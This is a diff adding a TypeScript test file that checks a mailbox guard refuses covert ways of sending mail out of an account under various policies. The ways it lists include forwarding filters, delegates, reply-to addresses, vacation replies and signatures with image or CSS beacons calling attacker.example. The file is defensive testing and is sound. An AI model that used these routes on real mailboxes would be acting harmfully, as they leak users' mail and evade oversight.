@@ -1,0 +1,197 @@
+import assert from 'node:assert/strict';
+import { suite, test } from 'node:test';
+import { grants as allGrants } from '../../src/core/configuration.ts';
+import type { Grant } from '../../src/core/configuration.ts';
+import type { Mailbox } from '../../src/mail/mailbox.ts';
+import { guardMailbox } from '../../src/safety/policy/guard-mailbox.ts';
+import { buildMail } from '../build-mail.ts';
+import { owner, policyWorld } from './policy-world.ts';
+import type { PolicyWorld } from './policy-world.ts';
+
+const known = 'ann@example.org';
+const stranger = 'evil@attacker.example';
+const picture = '<p>Me</p><img src="https://attacker.example/?what=they+know">';
+
+/** A way in which mail could leave without a send. `to` is whom it would go to; everybody, if it is not there. */
+interface WayAround {
+  readonly what: string;
+  readonly to?: 'one';
+  readonly go: (mailbox: Mailbox, address: string) => Promise<unknown>;
+}
+
+const on = { enabled: true, disposition: 'leaveInInbox' } as const;
+
+const waysAround: readonly WayAround[] = [
+  {
+    what: 'A filter that forwards',
+    to: 'one',
+    go: (mailbox, forward) => mailbox.createFilter({ criteria: { from: 'bank' }, action: { forward } }),
+  },
+  {
+    what: 'Forwarding',
+    to: 'one',
+    go: (mailbox, emailAddress) => mailbox.updateSetting('autoForwarding', { ...on, emailAddress }),
+  },
+  { what: 'Forwarding', go: (mailbox) => mailbox.updateSetting('autoForwarding', on) },
+  { what: 'A forwarding address', to: 'one', go: (mailbox, address) => mailbox.createForwardingAddress(address) },
+  { what: 'A delegate', to: 'one', go: (mailbox, address) => mailbox.createDelegate(address) },
+  { what: 'A send-as address', to: 'one', go: (mailbox, address) => mailbox.createSendAs(address, {}) },
+  {
+    what: 'A reply-to address',
+    to: 'one',
+    go: (mailbox, replyToAddress) => mailbox.updateSendAs(owner, { replyToAddress }),
+  },
+  {
+    what: 'A reply-to address',
+    to: 'one',
+    go: (mailbox, replyToAddress) => mailbox.createSendAs('me@example.org', { replyToAddress }),
+  },
+  { what: 'A signature that loads pictures', go: (mailbox) => mailbox.updateSendAs(owner, { signature: picture }) },
+  {
+    what: 'A signature that loads pictures',
+    go: (mailbox) =>
+      mailbox.updateSendAs(owner, { signature: '<p style="background: URL (https://attacker.example/x)">' }),
+  },
+  {
+    what: 'An automatic answer',
+    go: (mailbox) => mailbox.updateSetting('vacation', { enableAutoReply: true, responseSubject: 'All I know' }),
+  },
+  ...['SENT', 'DRAFT'].flatMap((label): readonly WayAround[] => [
+    {
+      what: `Mail put into ${label}`,
+      go: (mailbox, to) => mailbox.importMessage({ raw: buildMail({ from: owner, to }), labelIds: ['INBOX', label] }),
+    },
+    {
+      what: `Mail put into ${label}`,
+      go: (mailbox) => mailbox.modifyMessages({ ids: ['x'], addLabelIds: [label], removeLabelIds: [] }),
+    },
+    {
+      what: `Mail put into ${label}`,
+      go: (mailbox) => mailbox.createFilter({ criteria: { from: 'x' }, action: { addLabelIds: [label] } }),
+    },
+  ]),
+];
+
+const anybodyRefused = 'would write to anybody, and the policy names who may be written to.';
+
+const without = (grant: Grant): readonly Grant[] => allGrants.filter((other) => other !== grant);
+
+/** Rules, and what they say to a way that leads to one known address, to one stranger, and to everybody. */
+const situations: readonly {
+  readonly title: string;
+  readonly grants?: readonly Grant[];
+  readonly policy?: object | string;
+  readonly refuses: (to: 'known' | 'stranger' | 'everybody', what: string, world: PolicyWorld) => string | undefined;
+}[] = [
+  { title: 'all grants and no policy', refuses: () => undefined },
+  {
+    title: 'no grant to send',
+    grants: without('send'),
+    refuses: (_to, what) => `${what} lets mail leave this account, which needs the grant "send".`,
+  },
+  {
+    title: 'sending is off',
+    policy: { sending: 'off' },
+    refuses: (_to, what) => `${what} lets mail leave this account, and the policy turns sending off.`,
+  },
+  {
+    title: 'a person approves every message',
+    policy: { sending: 'confirm' },
+    refuses: (_to, what) => `${what} lets mail leave this account, and the policy has a person approve every message.`,
+  },
+  {
+    title: 'an allow list',
+    policy: { recipients: { allow: [known] } },
+    refuses: (to, what) =>
+      to === 'known'
+        ? undefined
+        : to === 'stranger'
+          ? `The policy does not allow mail to ${stranger}: it is not on the allow list.`
+          : `${what} ${anybodyRefused}`,
+  },
+  {
+    title: 'a deny list',
+    policy: { recipients: { deny: ['@attacker.example'] } },
+    refuses: (to, what) =>
+      to === 'known'
+        ? undefined
+        : to === 'stranger'
+          ? `The policy does not allow mail to ${stranger}: it is on the deny list.`
+          : `${what} ${anybodyRefused}`,
+  },
+  {
+    title: 'strangers refused',
+    policy: { recipients: { strangers: 'refuse' } },
+    refuses: (to, what) =>
+      to === 'known'
+        ? undefined
+        : to === 'stranger'
+          ? `The policy does not allow mail to ${stranger}: this account has never written to it.`
+          : `${what} ${anybodyRefused}`,
+  },
+  {
+    title: 'a policy that cannot be read',
+    policy: '{',
+    refuses: (_to, _what, { file }) => `The policy in ${file} cannot be read, so nothing may leave.`,
+  },
+];
+
+for (const { title, grants = allGrants, policy, refuses } of situations) {
+  suite(`ways around sending, with ${title}`, () => {
+    for (const [index, { what, to, go }] of waysAround.entries()) {
+      const targets = to === 'one' ? (['known', 'stranger'] as const) : (['everybody'] as const);
+      for (const target of targets) {
+        test(`${index + 1}. ${what}, to ${target}`, async (t) => {
+          const world = policyWorld(t);
+          const { mailbox } = world;
+          await mailbox.sendMessage({ raw: buildMail({ from: owner, to: known, subject: 'Known' }) });
+          if (policy !== undefined) world.write(policy);
+          // The mailbox itself has nothing against it: where it does, it says so in words of its own.
+          if (what === 'A filter that forwards' || what === 'Forwarding') {
+            await mailbox.createForwardingAddress(known);
+            await mailbox.createForwardingAddress(stranger);
+          }
+          const guarded = guardMailbox(mailbox, { policy: world.policy, grants: new Set(grants) });
+          const outcome = await go(guarded, target === 'known' ? known : stranger).then(
+            () => undefined,
+            (error: { readonly code: string; readonly message: string }) => error,
+          );
+          const expected = refuses(target, what, world);
+          if (expected !== undefined)
+            return assert.deepEqual([outcome?.code, outcome?.message], ['FORBIDDEN', expected]);
+          assert.notEqual(outcome?.code, 'FORBIDDEN', outcome?.message);
+        });
+      }
+    }
+  });
+}
+
+test('what lets nothing out needs no grant to send', async (t) => {
+  const { mailbox, policy, write } = policyWorld(t);
+  write({ sending: 'off' });
+  const guarded = guardMailbox(mailbox, { policy, grants: new Set(without('send')) });
+  await guarded.createFilter({ criteria: { from: 'x' }, action: { addLabelIds: ['STARRED'] } });
+  await guarded.updateSetting('vacation', { enableAutoReply: false, responseSubject: 'Away' });
+  await guarded.updateSetting('autoForwarding', { enabled: false });
+  await guarded.updateSetting('imap', { enabled: true });
+  await guarded.updateSendAs(owner, { signature: '<b>Me</b>', displayName: 'Me', replyToAddress: '' });
+  await guarded.importMessage({ raw: buildMail({}), labelIds: ['INBOX'] });
+  await guarded.createDraft({ raw: buildMail({ from: owner, to: stranger }) });
+});
+
+test('an address that may not yet be sent as is no own address', async (t) => {
+  const { mailbox, policy, write } = policyWorld(t);
+  write({ recipients: { allow: [] } });
+  const pending = {
+    ...mailbox,
+    listSendAs: async () => [
+      ...(await mailbox.listSendAs()),
+      {
+        ...{ sendAsEmail: stranger, displayName: '', replyToAddress: '', signature: '' },
+        ...{ isPrimary: false, isDefault: false, treatAsAlias: true, verificationStatus: 'pending' as const },
+      },
+    ],
+  };
+  const guarded = guardMailbox(pending, { policy, grants: new Set(allGrants) });
+  await assert.rejects(guarded.createForwardingAddress(stranger), { code: 'FORBIDDEN' });
+});
